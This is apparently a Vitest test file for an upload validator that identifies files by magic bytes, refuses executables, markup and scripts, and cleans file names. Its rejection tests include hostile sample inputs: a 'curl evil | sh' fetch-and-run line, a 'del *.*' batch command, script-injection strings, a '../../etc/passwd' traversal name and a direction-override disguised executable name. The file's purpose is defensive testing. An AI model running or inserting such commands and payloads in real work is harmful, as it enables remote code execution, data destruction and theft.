import { describe, expect, it } from 'vitest';
import { cleanFileName, createTextChecker, detectFileType, nameForContent } from './file-types.ts';

const text = (s: string) => new TextEncoder().encode(s);
const cat = (...parts: (Uint8Array | number[])[]) => new Uint8Array(parts.flatMap((p) => [...p]));

/** A ZIP local file header with a stored (uncompressed) entry. */
function zipEntry(name: string, data = text('<x/>'), flags = 0): Uint8Array {
  const n = text(name);
  const header = new Uint8Array(30);
  const view = new DataView(header.buffer);
  view.setUint32(0, 0x04034b50, true);
  view.setUint16(6, flags, true);
  view.setUint32(18, data.length, true);
  view.setUint32(22, data.length, true);
  view.setUint16(26, n.length, true);
  return cat(header, n, data);
}

const OLE2 = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];
const utf16 = (s: string) => [...s].flatMap((c) => [c.charCodeAt(0), 0]);

describe('detectFileType', () => {
  it('knows the allowed signatures', () => {
    expect(detectFileType(text('%PDF-1.7'), true)?.kind).toBe('pdf');
    expect(detectFileType(cat([0x89], text('PNG'), [0x0d, 0x0a, 0x1a, 0x0a]), true)?.kind).toBe('png');
    expect(detectFileType(new Uint8Array([0xff, 0xd8, 0xff, 0xdb]), true)?.kind).toBe('jpeg');
    expect(detectFileType(text('GIF89a'), true)?.kind).toBe('gif');
    expect(detectFileType(cat(text('RIFF'), [1, 2, 3, 4], text('WEBPVP8 ')), true)?.kind).toBe('webp');
    expect(detectFileType(new Uint8Array([0x49, 0x49, 0x2a, 0x00, 8, 0, 0, 0]), true)?.kind).toBe('tiff');
    expect(detectFileType(new Uint8Array([0x4d, 0x4d, 0x00, 0x2a]), true)?.kind).toBe('tiff');
    expect(detectFileType(text('Name,Phone\r\nRose,515-555-0142\r\n'), true)?.kind).toBe('text');
    expect(detectFileType(text('\uFEFFCafé crème 💊'), true)?.kind).toBe('text');
  });

  it('reads Office Open XML by its [Content_Types].xml part and tells Word from Excel', () => {
    const docx = cat(zipEntry('[Content_Types].xml'), zipEntry('_rels/.rels'), zipEntry('word/document.xml'));
    const xlsx = cat(zipEntry('[Content_Types].xml'), zipEntry('xl/workbook.xml'));
    expect(detectFileType(docx, true)?.kind).toBe('docx');
    expect(detectFileType(xlsx, true)?.kind).toBe('xlsx');
    // Sizes in a data descriptor stop the walk: the content is Office, which one the name says.
    const unknown = cat(zipEntry('[Content_Types].xml', text('<x/>'), 0x08));
    expect(detectFileType(unknown, false)).toMatchObject({ kind: 'office-zip', ambiguous: true });
    // Any other ZIP (an archive, a jar, an apk) is refused.
    expect(detectFileType(cat(zipEntry('classes.dex'), zipEntry('AndroidManifest.xml')), true)).toBeNull();
  });

  it('reads legacy Office files by the stream their directory names', () => {
    const pad = new Array(512).fill(0);
    expect(detectFileType(cat(OLE2, pad, utf16('WordDocument')), true)?.kind).toBe('doc');
    expect(detectFileType(cat(OLE2, pad, utf16('Workbook')), true)?.kind).toBe('xls');
    expect(detectFileType(cat(OLE2, pad), false)).toMatchObject({ kind: 'ole2', ambiguous: true });
  });

  it('refuses executables, archives, markup and scripts, whatever they are called', () => {
    for (const bytes of [
      cat(text('MZ'), [0x90, 0x00, 0x03, 0x00]),
      cat([0x7f], text('ELF'), [2, 1, 1]),
      cat([0x1f, 0x8b, 0x08, 0x00]),
      text('<!doctype html><html><script>alert(1)</script>'),
      text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
      text('<?xml version="1.0"?><svg/>'),
      text('Hello <script>steal()</script>'),
      text('#!/bin/bash\ncurl evil | sh'),
      text('@echo off\r\ndel *.*'),
      cat(text('abc'), [0], text('def')),
      cat(text('caf'), [0xe9]), // Latin-1, not UTF-8
      new Uint8Array(),
    ]) {
      expect(detectFileType(bytes, true)).toBeNull();
    }
  });
});

describe('createTextChecker', () => {
  it('follows a text to its end, across chunk boundaries', () => {
    const ok = createTextChecker();
    expect(ok.push(text('Line one\n'))).toBe(true);
    expect(ok.push(new Uint8Array([0xc3]))).toBe(true); // first half of "é"
    expect(ok.push(new Uint8Array([0xa9]), true)).toBe(true);

    const split = createTextChecker();
    expect(split.push(text('notes ... <scr'))).toBe(true);
    expect(split.push(text('ipt>x()</script>'))).toBe(false);

    const late = createTextChecker();
    expect(late.push(text('fine so far'))).toBe(true);
    expect(late.push(new Uint8Array([0x41, 0x00]))).toBe(false);

    const cut = createTextChecker();
    expect(cut.push(new Uint8Array([0x41, 0xe2, 0x82]), true)).toBe(false);
  });
});

describe('file names', () => {
  it('keep the base name without control or direction characters', () => {
    expect(cleanFileName('../../etc/passwd')).toBe('passwd');
    expect(cleanFileName('scan\u202Egnp.exe')).toBe('scangnp.exe');
    expect(cleanFileName('\u200Fa\u2067b\u0000c.pdf')).toBe('abc.pdf');
    expect(cleanFileName(undefined)).toBe('');
  });

  it('get the extension of their content', () => {
    const pdf = detectFileType(text('%PDF-1.4'), true)!;
    expect(nameForContent('Rx.pdf', pdf)?.name).toBe('Rx.pdf');
    expect(nameForContent('Rx.PDF', pdf)?.name).toBe('Rx.PDF');
    expect(nameForContent('invoice.pdf.exe', pdf)?.name).toBe('invoice.pdf');
    expect(nameForContent('scan', pdf)?.name).toBe('scan.pdf');
    expect(nameForContent('', pdf)?.name).toBe('attachment.pdf');
    expect(nameForContent('.exe', pdf)?.name).toBe('attachment.pdf');
    const jpeg = detectFileType(new Uint8Array([0xff, 0xd8, 0xff]), true)!;
    expect(nameForContent('photo.jpeg', jpeg)).toEqual({
      name: 'photo.jpeg',
      extension: 'jpeg',
      contentType: 'image/jpeg',
    });
    const office = detectFileType(cat(zipEntry('[Content_Types].xml', text(''), 0x08)), false)!;
    expect(nameForContent('budget.xlsx', office)?.extension).toBe('xlsx');
    expect(nameForContent('budget.zip', office)).toBeNull();
  });
});
